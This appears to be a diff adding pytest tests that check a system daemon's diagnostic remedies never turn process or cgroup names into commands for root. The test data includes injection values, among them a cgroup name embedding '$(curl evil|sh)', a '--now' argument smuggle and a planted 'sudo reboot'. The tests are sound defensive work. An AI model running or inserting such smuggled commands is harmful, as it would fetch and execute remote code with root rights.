@@ -7,7 +7,9 @@ from pathlib import Path
 
 import pytest
 
+from memscaler.daemon.discovery import Found
 from memscaler.daemon.doctor.model import Result
+from memscaler.daemon.doctor.servers import _remedy
 from tests.daemon.servers import LlamaServer
 from tests.doctor.bench import doctor, only
 from tests.governor import eventually
@@ -115,6 +117,33 @@ def test_a_rival_that_is_a_unit(machine):
     finding = machine.check("MS-RIVAL-01")
     assert finding.result is Result.WARN
     assert finding.remedy.startswith("sudo systemctl disable --now nvidia-pstated.service")
+
+
+@pytest.mark.parametrize(
+    "cgroup",
+    [
+        "/user.slice/user-1000.slice/user@1000.service/app.slice/ssh.service",
+        "/user.slice/user-1000.slice/user@1000.service/system.slice/ssh.service",
+        "/system.slice/x$(curl evil|sh).service",
+        "/system.slice/--now.service",
+        "/system.slice/ssh.service/below",
+        "/system.slice/docker-5eed.scope/ssh.service",
+    ],
+)
+def test_a_rival_that_calls_itself_a_unit(machine, cgroup):
+    """Who has a manager of their own may call a cgroup anything: that never becomes a command for root."""
+    machine.write("/proc/77/stat", f"77 (nvidia-pstated) S 1 {' '.join(['0'] * 40)}\n")
+    machine.write("/proc/77/cmdline", "/usr/bin/nvidia-pstated\0")
+    machine.write("/proc/77/cgroup", f"0::{cgroup}\n")
+    assert machine.check("MS-RIVAL-01").remedy == "end it: sudo kill 77; or leave its GPUs to it"
+
+
+def test_what_is_said_of_a_published_port():
+    """Only the watch is taken over from the sentence, not what a process calls itself."""
+    problem = "x: sudo reboot instead (pid 7) publishes this port for a container: watch 80@container:web instead"
+    assert _remedy(Found(port=80, scope="host", problem=problem)) == "as it says: watch 80@container:web instead"
+    problem = "x: sudo reboot instead (pid 7) publishes this port for a container: watch 80@container:$(x) instead"
+    assert _remedy(Found(port=80, scope="host", problem=problem)) == "see `memscaler ports`"
 
 
 def test_what_others_write_is_one_plain_line(tmp_path, runtime_dir):
